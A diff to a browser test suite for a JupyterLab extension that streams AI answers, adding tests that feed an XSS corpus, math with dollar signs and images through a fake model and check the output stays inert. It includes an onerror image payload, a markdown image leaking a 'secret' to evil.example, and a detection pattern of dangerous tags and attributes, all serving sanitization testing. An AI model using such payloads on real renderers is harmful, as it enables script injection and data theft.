@@ -31,6 +31,7 @@ from typing import Any
 
 import pytest
 from fake_dashscope import FakeDashScope, Reply, Stream
+from xss_corpus import CONTEXTS, base_vectors
 
 pytestmark = pytest.mark.browser
 
@@ -97,6 +98,37 @@ $x$ <img src=y onerror="window.__pwned=1"> $y$
 """
 
 
+# The XSS corpus: every vector in every context, in a few long answers streamed in big
+# deltas, and the bare vectors once more in deltas of three characters (split everywhere).
+CORPUS_QUESTION = "Corpus part"
+_FENCE_CONTEXT = next(c for c in CONTEXTS if c.startswith("```"))
+CORPUS_ANSWERS = [
+    "\n\n".join(context.format(vector) for context in contexts for vector in base_vectors())
+    for contexts in (CONTEXTS[:4], CONTEXTS[4:8], [c for c in CONTEXTS[8:] if c != _FENCE_CONTEXT] + [_FENCE_CONTEXT])
+]
+SPLIT_QUESTION = "Corpus split"
+SPLIT_ANSWER = "\n\n".join(base_vectors())
+PRICE_QUESTION = "Prices and math"
+PRICES = "The ticket costs $5 and the meal $10, so $15 in total."
+PRICE_ANSWER = f"""{PRICES}
+
+The area of a circle is $\\pi r^2$, for a radius $r$ of 3 m it costs $4 a square metre.
+
+$$E = mc^2$$
+
+![leak](https://evil.example/x.png?q=secret) ![relative](chart.png) ![inline](data:image/png;base64,iVBORw0KGgo=)
+"""
+XSS_NOTEBOOK = "xss.ipynb"
+XSS_CELLS = [
+    "%load_ext qwen_magic",
+    *(f"%%qwen\n{CORPUS_QUESTION} {n}" for n in range(len(CORPUS_ANSWERS))),
+    f"%%qwen\n{SPLIT_QUESTION}",
+    f"%%qwen\n{PRICE_QUESTION}",
+]
+XSS_ANSWERS = len(XSS_CELLS) - 1
+PRICE_CELL = len(XSS_CELLS) - 1
+
+
 def _user_text(body: dict[str, Any]) -> str:
     content = body["messages"][-1]["content"]
     if isinstance(content, str):
@@ -110,6 +142,12 @@ def _responder(body: dict[str, Any]) -> Reply | None:
         return STREAMED
     if PAYLOAD_QUESTION in text:
         return Stream(text=PAYLOAD, chunk=40, delay=0.01)
+    if CORPUS_QUESTION in text:
+        return Stream(text=CORPUS_ANSWERS[int(text.rsplit(" ", 1)[-1])], chunk=600, delay=0.002)
+    if SPLIT_QUESTION in text:
+        return Stream(text=SPLIT_ANSWER, chunk=3, delay=0.0005)
+    if PRICE_QUESTION in text:
+        return Stream(text=PRICE_ANSWER, chunk=5, delay=0.02)
     return None  # echo
 
 
@@ -327,14 +365,14 @@ class Run:
 def _watch_stream(page: Any) -> tuple[list[str], list[str]]:
     """Sample the answer cell until its static footer appears."""
     answer = _outputs(page, ANSWER_CELL)
-    answer.locator(".jp-RenderedMarkdown").first.wait_for(timeout=30_000)
+    answer.locator(".qwen-markdown").first.wait_for(timeout=30_000)
     samples: list[str] = []
     statuses: list[str] = []
     deadline = time.monotonic() + 30
     while time.monotonic() < deadline:
         seen = answer.evaluate(
             """area => ({
-                text: [...area.querySelectorAll('.jp-RenderedMarkdown')].map(e => e.innerText).join('\\n'),
+                text: [...area.querySelectorAll('.qwen-markdown')].map(e => e.innerText).join('\\n'),
                 status: [...area.querySelectorAll('.jupyter-widgets .qwen-status')].map(e => e.innerText).join(''),
                 done: area.querySelector('.qwen-usage') !== null,
             })"""
@@ -379,7 +417,7 @@ def ran(lab: Lab, browser: Any, fake: FakeDashScope) -> Run:
 
 def test_the_answer_visibly_grows_while_it_streams(ran: Run) -> None:
     lengths = [len(sample) for sample in ran.samples]
-    final = "\n".join(_outputs(ran.page, ANSWER_CELL).locator(".jp-RenderedMarkdown").all_inner_texts())
+    final = "\n".join(_outputs(ran.page, ANSWER_CELL).locator(".qwen-markdown").all_inner_texts())
     print(f"all cells ran in {ran.seconds:.1f} s; answer length at each sample: {lengths}; footer: {ran.statuses}")
     assert ran.live_thinking.startswith("Thinking…"), ran.live_thinking
     # Not necessarily monotonic: half-typed markdown (`**bold`) can render longer than finished.
@@ -398,8 +436,8 @@ def test_the_answer_renders_as_markdown(ran: Run) -> None:
     assert answer.locator("strong").inner_text() == "bold"
     code = answer.locator("pre code")
     assert "def greet(name: str) -> str:" in code.inner_text()
-    # JupyterLab 4 highlights fenced code with CodeMirror: classed spans per token.
-    tokens = code.evaluate("c => [...c.querySelectorAll('span[class]')].map(s => s.textContent)")
+    # Fenced code is coloured in the kernel (Pygments, in JupyterLab's editor colours).
+    tokens = code.evaluate("c => [...c.querySelectorAll('span[style]')].map(s => s.textContent)")
     assert {"def", "return", "# say hello"} <= set(tokens), tokens
     table = answer.locator("table")
     assert table.locator("th").all_inner_texts() == ["model", "tokens"]
@@ -524,7 +562,7 @@ def reopened(saved: Path, lab: Lab, browser: Any, artifacts: Path) -> Any:
 def _assert_saved_answers_render(page: Any) -> None:
     answer = _outputs(page, ANSWER_CELL)
     assert answer.locator("h1").inner_text().startswith("Streaming report")
-    assert answer.locator("pre code span[class]").count() > 5
+    assert answer.locator("pre code span[style]").count() > 5
     assert answer.locator("table th").count() == 2
     assert answer.locator("details.qwen-thinking").get_attribute("open") is None
     for cell in (ANSWER_CELL, PAYLOAD_CELL):
@@ -559,3 +597,171 @@ def test_the_reopened_notebook_still_renders_once_a_fresh_kernel_starts(reopened
     _wait_for_kernel(reopened)
     reopened.wait_for_timeout(1_000)  # the widget manager asks the new kernel for widget models
     _assert_saved_answers_render(reopened)
+
+
+# --- the XSS corpus, prices and math, images: live, then reopened ----------------------
+
+# Everything in the output DOM that could run script, load a page, or show a broken image.
+_DOM_DANGERS = """roots => roots.flatMap(root => [...root.querySelectorAll('*')]).flatMap(e => {
+    const found = [];
+    const tag = e.tagName.toLowerCase();
+    if (['script', 'form', 'meta', 'base', 'iframe', 'object', 'embed', 'style', 'link', 'frame', 'frameset',
+         'applet', 'input', 'button', 'textarea', 'select', 'template'].includes(tag)
+        || (tag === 'svg' && !e.closest('mjx-container')) || (tag === 'math' && !e.closest('mjx-container')))
+        found.push(`<${tag}>`);
+    for (const a of e.attributes) {
+        const value = a.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
+        if (a.name.startsWith('on')) found.push(`${tag}[${a.name}]`);
+        if (/^(javascript|data|vbscript):/.test(value) && !['alt', 'title', 'class'].includes(a.name))
+            found.push(`${tag}[${a.name}=${a.value.slice(0, 40)}]`);
+        if (a.name === 'style' && /url\\(|expression/i.test(a.value)) found.push(`${tag}[style]`);
+    }
+    if (tag === 'img' && !/^https?:/i.test(e.getAttribute('src') || '')) found.push(`img without a usable src`);
+    if (tag === 'img' && e.complete && e.naturalWidth === 0) found.push(`broken img ${e.src}`);
+    return found;
+})"""
+
+_DOLLARS = """area => {
+    const text = [...area.querySelectorAll('.qwen-markdown')].map(e => e.textContent).join('\\n');
+    return {text, math: area.querySelectorAll('mjx-container').length,
+            display: area.querySelectorAll('mjx-container[display="true"]').length};
+}"""
+
+
+@dataclass
+class XssRun:
+    page: Any
+    errors: list[str]
+    dialogs: list[str]
+    requests: list[str]  # every URL the page asked for outside the Lab server
+
+
+def _watch(page: Any, lab: Lab) -> XssRun:
+    run = XssRun(page, [], [], [])
+    page.on("pageerror", lambda error: run.errors.append(str(error)))
+    page.on("dialog", lambda dialog: (run.dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda request: None if request.url.startswith(lab.url) else run.requests.append(request.url))
+    return run
+
+
+def _answers_done(page: Any, count: int) -> None:
+    page.wait_for_function(
+        f"() => document.querySelectorAll('.jp-NotebookPanel .qwen-usage').length === {count}", timeout=120_000
+    )
+
+
+def _assert_nothing_ran(run: XssRun) -> None:
+    page = run.page
+    assert page.evaluate("() => [window.__pwned, window.top.__pwned]") == [None, None]
+    dangers = page.locator(".jp-NotebookPanel .jp-OutputArea-output").evaluate_all(_DOM_DANGERS)
+    assert dangers == [], dangers[:20]
+    assert run.dialogs == []
+    assert not [url for url in run.requests if "evil.example" in url], run.requests
+    assert page.evaluate("() => [window.__pwned, window.top.__pwned]") == [None, None]
+
+
+def _assert_dollars_and_math(page: Any) -> None:
+    area = _outputs(page, PRICE_CELL)
+    page.wait_for_function(
+        "a => a.querySelectorAll('mjx-container').length >= 3", arg=area.element_handle(), timeout=30_000
+    )
+    seen = area.evaluate(_DOLLARS)
+    assert PRICES in seen["text"], seen["text"]
+    assert "it costs $4 a square metre" in seen["text"], seen["text"]
+    assert seen["math"] == 3 and seen["display"] == 1, seen  # π r², r, and E = mc² on its own line
+    links = area.locator("a", has_text="image from evil.example").all()
+    assert len(links) == 1 and "open" in (links[0].text_content() or "")
+    assert area.locator("img").count() == 0  # the others had no usable source: their alt text shows
+    assert "relative" in seen["text"] and "inline" in seen["text"]
+
+
+@pytest.fixture(scope="module")
+def xss_ran(lab: Lab, browser: Any, fake: FakeDashScope) -> XssRun:
+    """The corpus notebook, run in a tab of its own; returns once every answer has ended."""
+    import nbformat
+
+    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in XSS_CELLS])
+    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    nbformat.write(notebook, lab.root / XSS_NOTEBOOK)
+    page = browser.new_page()
+    run = _watch(page, lab)
+    page.goto(lab.page_url(XSS_NOTEBOOK))
+    page.wait_for_selector(".jp-NotebookPanel .jp-Notebook .jp-Cell", timeout=60_000)
+    _wait_for_kernel(page)
+    page.evaluate("() => { window.jupyterapp.commands.execute('notebook:run-all-cells'); }")
+    # While the price answer streams, its dollars are dollars already.
+    area = _outputs(page, PRICE_CELL)
+    area.locator(".qwen-markdown").first.wait_for(timeout=120_000)
+    live = area.evaluate(_DOLLARS)["text"]
+    assert "$5" in live or len(live) < 20, live
+    _answers_done(page, XSS_ANSWERS)
+    _wait_for_kernel(page)
+    return run
+
+
+def test_the_xss_corpus_runs_nothing_live(xss_ran: XssRun) -> None:
+    assert sum(len(answer.split("\n\n")) for answer in CORPUS_ANSWERS) >= 150
+    _assert_nothing_ran(xss_ran)
+    # The corpus did render (not an empty page that trivially holds nothing): much of it as inert text.
+    for cell in range(1, XSS_ANSWERS):
+        text = _outputs(xss_ran.page, cell).evaluate("a => a.textContent")  # also when scrolled out of view
+        assert len(text) > 1000 and "window.__pwned" in text, text[:200]
+
+
+def test_prices_are_dollars_and_math_renders_live(xss_ran: XssRun) -> None:
+    _assert_dollars_and_math(xss_ran.page)
+
+
+def _open_without_kernel(browser: Any, lab: Lab, path: str) -> XssRun:
+    page = browser.new_page()
+    run = _watch(page, lab)
+    page.goto(f"{lab.url}/lab?reset&token={lab.token}")
+    page.wait_for_function("() => window.jupyterapp !== undefined", timeout=60_000)
+    page.evaluate("() => window.jupyterapp.restored.then(() => null)")
+    page.evaluate(
+        """path => window.jupyterapp.commands.execute('docmanager:open', {
+            path, factory: 'Notebook', kernelPreference: {shouldStart: false, canStart: false, autoStartDefault: false},
+        })""",
+        path,
+    )
+    _answers_done(page, XSS_ANSWERS)
+    page.wait_for_timeout(1_000)
+    return run
+
+
+@pytest.fixture(scope="module")
+def xss_reopened(xss_ran: XssRun, lab: Lab, browser: Any) -> XssRun:
+    """The corpus notebook saved, closed, and opened again with no kernel (trusted: Lab signed it)."""
+    page = xss_ran.page
+    page.locator(".jp-NotebookPanel .jp-Cell").first.locator(".jp-InputPrompt").click()  # command mode
+    page.keyboard.press("Control+s")
+    page.wait_for_function("() => !document.querySelector('.jp-mod-dirty')", timeout=20_000)
+    page.evaluate("() => window.jupyterapp.commands.execute('kernelmenu:shutdown')")
+    _wait_for_kernel(page, None)
+    page.close()
+    return _open_without_kernel(browser, lab, XSS_NOTEBOOK)
+
+
+@pytest.fixture(scope="module")
+def xss_untrusted(xss_reopened: XssRun, lab: Lab, browser: Any) -> XssRun:
+    """A copy of the saved notebook that Lab never signed: untrusted, so Lab sanitizes its outputs too."""
+    import nbformat
+
+    notebook = nbformat.read(lab.root / XSS_NOTEBOOK, as_version=4)
+    notebook.metadata["copied"] = True  # another content, so no signature matches
+    nbformat.write(notebook, lab.root / f"untrusted-{XSS_NOTEBOOK}")
+    xss_reopened.page.close()
+    return _open_without_kernel(browser, lab, f"untrusted-{XSS_NOTEBOOK}")
+
+
+def test_the_reopened_corpus_runs_nothing_and_shows_no_broken_image(xss_reopened: XssRun) -> None:
+    _assert_nothing_ran(xss_reopened)
+
+
+def test_prices_are_dollars_and_math_renders_reopened(xss_reopened: XssRun) -> None:
+    _assert_dollars_and_math(xss_reopened.page)
+
+
+def test_the_untrusted_copy_runs_nothing_and_keeps_dollars_and_math(xss_untrusted: XssRun) -> None:
+    _assert_nothing_ran(xss_untrusted)
+    _assert_dollars_and_math(xss_untrusted.page)
